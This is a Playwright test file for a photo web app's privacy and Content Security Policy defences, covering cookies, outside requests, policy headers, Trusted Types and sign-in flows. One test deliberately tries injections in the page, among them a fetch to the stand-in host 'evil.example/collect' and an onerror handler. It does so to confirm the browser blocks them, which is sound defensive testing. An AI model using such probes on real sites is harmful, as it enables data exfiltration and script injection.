import { CspEvaluator } from "csp_evaluator/dist/evaluator.js";
import { CspParser } from "csp_evaluator/dist/parser.js";
import { frontPages } from "../../src/tools/front-pages.ts";
import { choosePhoto, expect, signUp, test } from "./support/fixtures.ts";
import { watchPages } from "./support/page-watch.ts";
import { photos } from "./support/photos.ts";

/** What a visit may leave behind without being asked (the cookie page says what for). */
const ESSENTIAL = new Set(["i18nextLng", "react-router-scroll-positions"]);

const publicPaths = [...frontPages.map(({ path }) => path), "/no-such-page"];

for (const language of ["en", "vi"] as const) {
  test(`a first visit to every public page in ${language} sets no cookie and asks nobody else`, {
    tag: "@full",
  }, async ({ visitorAt, server }) => {
    for (const path of publicPaths) {
      const page = await visitorAt(server.url);
      const asked = new Set<string>();
      page.context().on("request", (request) => asked.add(new URL(request.url()).origin));
      await page.goto(`${path}?lng=${language}`);
      await expect(page.locator("html")).toHaveAttribute("data-settled", "");
      await page.mouse.wheel(0, 10_000);
      await page.waitForLoadState("networkidle");
      expect([...asked], path).toEqual([server.url]);
      expect(await page.context().cookies(), path).toEqual([]);
      const kept = await page.evaluate(async () => ({
        names: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
        databases: (await indexedDB.databases()).map(({ name }) => name),
      }));
      expect(
        kept.names.filter((name) => !ESSENTIAL.has(name)),
        path,
      ).toEqual([]);
      expect(kept.databases, path).toEqual([]);
      await page.context().close();
    }
  });
}

test("asvs-3.4.3 the policy of every public page and of the screens has no finding", async ({
  request,
}) => {
  for (const path of [...publicPaths, "/dashboard/id", "/account", "/admin", "/offline.html"]) {
    const answer = await request.get(path, { headers: { accept: "text/html" } });
    const policy = answer.headers()["content-security-policy"] ?? "";
    expect(policy, path).toMatch(/script-src ('sha256-[^']+' )+'strict-dynamic'/);
    expect(policy, path).not.toContain("unsafe");
    expect(new CspEvaluator(new CspParser(policy).csp).evaluate(), path).toEqual([]);
    // Style attributes would not be heeded.
    expect(await answer.text(), path).not.toMatch(/<[^>]* style="/);
  }
});

test("what pages must not do is stopped by the browser, and noticed by the watch", async ({
  browser,
  server,
}) => {
  const context = await browser.newContext({ baseURL: server.url });
  const { problems } = await watchPages(context, { origins: [server.url] });
  const page = await context.newPage();
  await page.goto("/pricing");
  await expect(page.locator("html")).toHaveAttribute("data-settled", "");
  const done = await page.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      html: () => {
        document.createElement("div").innerHTML = "<b>x</b>";
      },
      script: () => {
        document.createElement("script").src = "/assets/x.js";
      },
      policy: () => Reflect.get(window, "trustedTypes").createPolicy("mine", {}),
      elsewhere: () => fetch("https://evil.example/collect"),
    };
    const outcomes: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      outcomes[name] = await Promise.resolve()
        .then(attempt)
        .then(
          () => "done",
          (error: unknown) => (error instanceof TypeError ? "stopped" : String(error)),
        );
    }
    const style = document.createElement("style");
    style.textContent = "body{outline:7px solid red}";
    document.head.append(style);
    const image = document.createElement("img");
    try {
      image.setAttribute("onerror", "window.wasRun = true");
    } catch {
      // Some browsers refuse the attribute, others its effect.
    }
    image.dispatchEvent(new Event("error"));
    outcomes["style"] = getComputedStyle(document.body).outlineWidth === "7px" ? "done" : "stopped";
    outcomes["handler"] = Reflect.has(window, "wasRun") ? "done" : "stopped";
    return outcomes;
  });
  expect(done).toEqual({
    html: "stopped",
    script: "stopped",
    policy: "stopped",
    elsewhere: "stopped",
    style: "stopped",
    handler: "stopped",
  });
  // The browser tells of a breach a moment after it.
  for (const directive of [
    "require-trusted-types-for",
    "trusted-types",
    "connect-src",
    "style-src-elem",
  ])
    await expect
      .poll(() => problems.join("\n"))
      .toContain(`breach of the content policy: ${directive}`);
  // The same server by another name is somebody else.
  const elsewhere = server.url.replace("127.0.0.1", "localhost");
  await page.goto(elsewhere);
  expect(problems).toContain(`request to another origin: ${elsewhere}/`);
  await context.close();
});

test("inputs work under Trusted Types: sign-in, menus, palette, dialog, tooltip, toast, a tool with a photo", async ({
  page,
  context,
}) => {
  test.setTimeout(240_000);
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const email = `typed-${Date.now()}@example.com`;
  await signUp(page, "/dashboard", email);

  // A tooltip ends with the focus of the form that has just gone, as with any: whoever points again sees it.
  await expect(async () => {
    await page.mouse.move(700, 500);
    await page.getByRole("button", { name: "Collapse sidebar" }).hover();
    await expect(page.getByRole("tooltip").first()).toBeVisible({ timeout: 3_000 });
  }).toPass({ timeout: 60_000 });
  await page.mouse.move(700, 500);

  await page.keyboard.press("Control+k");
  await expect(page.getByRole("dialog")).toBeVisible();
  // The page behind a dialog does not scroll: the sheet for it was taken.
  await expect(page.locator("body")).toHaveCSS("overflow", "hidden");
  await page.keyboard.press("Escape");
  await expect(page.getByRole("dialog")).toHaveCount(0);
  await expect(page.locator("body")).not.toHaveCSS("overflow", "hidden");

  await page.getByRole("button", { name: "Your account" }).click();
  await page.getByRole("menuitem", { name: "Get free credits" }).click();
  await page.getByRole("button", { name: "Copy" }).click();
  const toast = page.getByText("Referral link copied to clipboard");
  await expect(toast).toBeVisible();
  // Its styles are there: it floats above the page.
  await expect(page.locator("[data-sonner-toaster]")).toHaveCSS("position", "fixed");

  await page.goto("/dashboard/id");
  await choosePhoto(page, photos.portrait);
  await page.getByRole("button", { name: "Create ID photo (1 credit)" }).click();
  await expect(page.getByRole("radio", { name: "Single" })).toBeVisible({ timeout: 90_000 });
  await page.getByRole("radio", { name: "Dark Blue" }).click();
  await page.getByRole("radio", { name: "Print sheet" }).click();
  await expect(page.getByText(/\d+ of 30 × 40 mm/)).toBeVisible();

  await page.getByRole("button", { name: "Your account" }).click();
  const left = page.waitForResponse("**/api/auth/sign-out");
  await page.getByRole("menuitem", { name: "Sign Out" }).click();
  expect((await (await left).allHeaders())["clear-site-data"]).toBe('"cache"');
  await page.waitForURL(/\/$/);
  // asvs-14.3.1: nothing of the account stays with the window.
  expect(await page.evaluate(() => Object.keys(sessionStorage))).not.toContain("pending-runs");

  await page.goto("/login?lng=en&next=%2Fdashboard");
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password", { exact: true }).fill("a long enough one");
  await page
    .getByRole("button", { name: /^(Sign|Log) In$/i })
    .last()
    .click();
  await page.waitForURL("**/dashboard");
});
